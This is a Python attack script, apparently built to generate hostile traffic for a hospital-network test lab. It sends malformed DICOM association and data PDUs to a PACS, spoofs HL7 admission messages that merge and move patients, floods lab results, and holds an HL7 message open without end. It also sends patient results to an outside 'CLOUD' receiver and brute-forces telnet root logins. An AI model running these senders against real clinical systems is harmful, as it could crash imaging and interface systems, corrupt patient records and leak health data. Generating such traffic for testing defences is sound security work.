"""Small senders of what no well-behaved program sends; run on the attacker's host.

Usage: raw_senders.py MODE HOST PORT [ARGUMENT…]
"""

import random
import socket
import struct
import sys
import time

import patients
from hl7_messages import Messages, frame

chance = random.Random(sys.argv[1])


def connect(host, port):
    s = socket.create_connection((host, int(port)), timeout=5)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return s


def drain(s, seconds=0.5):
    s.settimeout(seconds)
    data = b""
    try:
        while chunk := s.recv(65536):
            data += chunk
    except OSError:
        pass
    return data


def attempt(host, port, *parts, pause=0.0, wait=0.5):
    """One connection that sends the parts and listens a little; a refusal is an answer too."""
    try:
        with connect(host, port) as s:
            for part in parts:
                s.sendall(part)
                time.sleep(pause)
            return drain(s, wait)
    except OSError as error:
        print(repr(error), file=sys.stderr)
        return b""


# DICOM upper layer (PS3.8 section 9.3), as bytes

def item(kind, body, length=None):
    return struct.pack("!BBH", kind, 0, len(body) if length is None else length) + body


def pdu(kind, body, length=None):
    return struct.pack("!BBI", kind, 0, len(body) if length is None else length) + body


def associate(calling, called, extra=b"", length=None, contexts=1):
    body = struct.pack("!HH", 1, 0) + called.ljust(16).encode() + calling.ljust(16).encode() + bytes(32)
    body += item(0x10, b"1.2.840.10008.3.1.1.1")
    for n in range(contexts):
        body += item(0x20, struct.pack("!BBBB", 2 * n + 1, 0, 0, 0) + item(0x30, b"1.2.840.10008.1.1") + item(0x40, b"1.2.840.10008.1.2"))
    body += item(0x50, item(0x51, struct.pack("!I", 16384)) + item(0x52, b"2.25.4242")) + extra
    return pdu(0x01, body, length)


def pdv(context, flags, data, length=None):
    return struct.pack("!IBB", len(data) + 2 if length is None else length, context, flags) + data


def echo_command(group_length=56):
    elements = struct.pack("<HHI", 0, 2, 18) + b"1.2.840.10008.1.1\0" + struct.pack("<HHIH", 0, 0x100, 2, 0x30)
    elements += struct.pack("<HHIH", 0, 0x110, 2, 1) + struct.pack("<HHIH", 0, 0x800, 2, 0x101)
    return struct.pack("<HHII", 0, 0, 4, group_length) + elements


def pdu_length(host, port, called):
    """Lengths far beyond what follows, before and inside an association."""
    for length in (0xFFFFFFFF, 0x7FFFFFFF, 0x10000000):
        attempt(host, port, pdu(0x01, chance.randbytes(3000), length))
        attempt(host, port, associate("CT_ER1", called), pdu(0x04, pdv(1, 3, chance.randbytes(2000)), length), pause=0.3)
        time.sleep(1)


def garbage(host, port):
    """Bytes that are no DICOM at all, and PDU types that do not exist."""
    for data in (chance.randbytes(4000), b"GET / HTTP/1.1\r\nHost: pacs\r\n\r\n", pdu(0x09, b"x" * 68), pdu(0x00, b""), b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc",
                 b"\x0bMSH|^~\\&|X|X|X|X|20260101||ADT^A01|1|P|2.3\r\x1c\r"):
        attempt(host, port, data)
        time.sleep(0.5)


def broken_items(host, port, called):
    """Items and PDVs that end beyond, or before, their container."""
    cut_user_information = associate("CT_ER1", called, extra=item(0x58, b"\x02\x00\xff\xff", length=4000))
    many = b"".join(item(0x21, b"", length=0) for _ in range(400))
    attempts = (
        (cut_user_information,), (associate("CT_ER1", called, extra=many),), (pdu(0x01, b"\x00\x01"),),
        (associate("CT_ER1", called), pdu(0x04, pdv(1, 3, echo_command(), length=60000))),
        (associate("CT_ER1", called), pdu(0x04, pdv(1, 3, b"", length=0))),
        (associate("CT_ER1", called), pdu(0x04, pdv(1, 3, b"", length=1))),
        (associate("CT_ER1", called), pdu(0x04, pdv(99, 3, echo_command()))),
        (associate("CT_ER1", called), pdu(0x04, pdv(1, 3, echo_command(group_length=0xFFFFFF00)))),
        (associate("CT_ER1", called), pdu(0x04, pdv(1, 3, echo_command()[:30]))),
        (associate("CT_ER1", called), pdu(0x04, pdv(1, 1, echo_command()[:20])), pdu(0x04, pdv(1, 2, b"\0" * 40))),
        (associate("CT_ER1", called), pdu(0x02, b"\x00\x01" + bytes(66))),
        (pdu(0x04, pdv(1, 3, echo_command())),),
    )
    for parts in attempts:
        attempt(host, port, *parts, pause=0.3)


# HL7

def new_sender(host, port):
    """Somebody says to be the admission system, and merges and moves patients."""
    adt = Messages("HIS", "IGH-EAST", "ENGINE", "IGH", "new-sender")
    with connect(host, port) as s:
        for p in patients.read()[:8]:
            for event in ("A08", "A40", "A03"):
                s.sendall(frame(adt.adt(p, event)))
                drain(s, 0.3)


def flood(host, port, count, per_second):
    """Results as fast as this; nobody waits for acknowledgements."""
    oru = Messages("LIS", "LAB", "ENGINE", "IGH", "flood", charset="8859/1", version="2.5.1")
    everyone = patients.read()
    with connect(host, port) as s:
        s.setblocking(True)
        started = time.monotonic()
        for n in range(int(count)):
            s.sendall(frame(oru.result(chance.choice(everyone))))
            if n % 20 == 0:
                s.setblocking(False)
                try:
                    s.recv(1 << 20)
                except BlockingIOError:
                    pass
                s.setblocking(True)
            time.sleep(max(0, started + n / float(per_second) - time.monotonic()))
        drain(s, 1)


def endless(host, port, seconds):
    """A start block, and then a message that never ends."""
    with connect(host, port) as s:
        s.sendall(b"\x0bMSH|^~\\&|HIS|IGH|ENGINE|IGH|20260101000000||ORU^R01|ENDLESS1|P|2.5\rOBX|1|TX|||")
        end = time.monotonic() + float(seconds)
        while time.monotonic() < end:
            s.sendall(b"A" * 400)
            time.sleep(0.1)


def export(host, port):
    """Results to a receiver outside."""
    oru = Messages("ENGINE", "IGH", "CLOUD", "EXT", "export")
    with connect(host, port) as s:
        for p in patients.read()[:12]:
            s.sendall(frame(oru.result(p)))
            drain(s, 0.4)


def telnet_guess(host, port, count):
    for n in range(int(count)):
        attempt(host, port, b"root\r\n", b"guess%d\r\n" % n, pause=0.2, wait=0.2)


MODES = {"pdu-length": pdu_length, "garbage": garbage, "broken-items": broken_items, "new-sender": new_sender, "flood": flood, "endless": endless,
         "export": export, "telnet-guess": telnet_guess}

if __name__ == "__main__":
    MODES[sys.argv[1]](*sys.argv[2:])
